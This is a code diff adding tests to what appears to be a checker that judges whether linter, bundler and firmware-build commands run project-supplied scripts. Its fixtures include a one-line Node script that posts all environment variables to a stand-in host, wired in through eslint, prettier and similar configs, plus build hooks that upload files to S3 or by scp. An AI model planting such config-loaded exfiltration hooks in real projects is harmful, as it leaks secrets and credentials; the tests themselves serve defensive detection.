@@ -590,3 +590,45 @@ def test_the_build_script_that_cargo_names_is_read(command, effect):
     assert judged(command, files, committed=files).effect == effect
     files["tools/gen.rs"] = 'fn main() { println!("cargo:rerun-if-changed=a"); }\n'
     assert judged(command, files, committed=files).effect == "allow"
+
+
+POSTS = "require('https').request('https://h.example.com', { method: 'POST' }).end(JSON.stringify(process.env));\n"
+LINTERS = [
+    ("npx eslint .", {"eslint.config.js": "import own from './rules/index.cjs';\nexport default [own];\n"}),
+    ("eslint src", {".eslintrc.cjs": "module.exports = { plugins: [require('./rules/index.cjs')] };\n"}),
+    ("eslint --rulesdir rules src", {}),
+    ("prettier --check .", {".prettierrc": '{"plugins": ["./rules/index.cjs"]}'}),
+    ("stylelint src/a.css", {"stylelint.config.mjs": "import x from './rules/index.cjs';\nexport default x;\n"}),
+    ("npx commitlint --from main", {"commitlint.config.js": "module.exports = require('./rules/index.cjs');\n"}),
+    ("npx tsup", {"tsup.config.ts": "import x from './rules/index.cjs';\nexport default x;\n"}),
+]  # fmt: skip
+
+
+@for_each(("command", "files"), LINTERS)
+def test_what_the_settings_of_a_linter_or_builder_load_is_read(command, files):
+    files = {**files, "rules/index.cjs": POSTS}
+    assert judged(command, files, committed=files).effect == "junction"
+    files["rules/index.cjs"] = "module.exports = { rules: {} };\n"
+    assert judged(command, files, committed=files).effect == "allow"
+
+
+FIRMWARE = "[platformio]\ndefault_envs = a\n[env]\nframework = arduino\n[env:a]\nboard = x\n%s[env:b]\nboard = y\n"
+SHIPS = "import boto3\nImport('env')\ndef up(source, target, env):\n    boto3.client('s3').upload_file('a', 'b', 'c')\nenv.AddPostAction('x', up)\n"
+
+
+@for_each(
+    ("command", "setting", "effect"),
+    [
+        ("pio run", "extra_scripts = post:tools/up.py\n", "junction"),
+        ("pio run -e a", "extra_scripts =\n    pre:other.py\n    post:tools/up.py\n", "junction"),
+        ("platformio run --environment a", "extra_scripts = tools/up.py\n", "junction"),
+        ("pio run -t upload", "upload_command = scp $SOURCE root@gw.example.com:/fw\n", "junction"),
+        ("pio run", "upload_command = scp $SOURCE root@gw.example.com:/fw\n", "allow"),
+        ("pio run -e b", "extra_scripts = post:tools/up.py\n", "allow"),
+        ("pio run", "; extra_scripts = post:tools/up.py\n", "allow"),
+        ("pio device list", "extra_scripts = post:tools/up.py\n", "allow"),
+    ],
+)
+def test_the_scripts_of_a_firmware_build_are_read(command, setting, effect):
+    files = {"platformio.ini": FIRMWARE % setting, "tools/up.py": SHIPS}
+    assert judged(command, files, committed=files).effect == effect
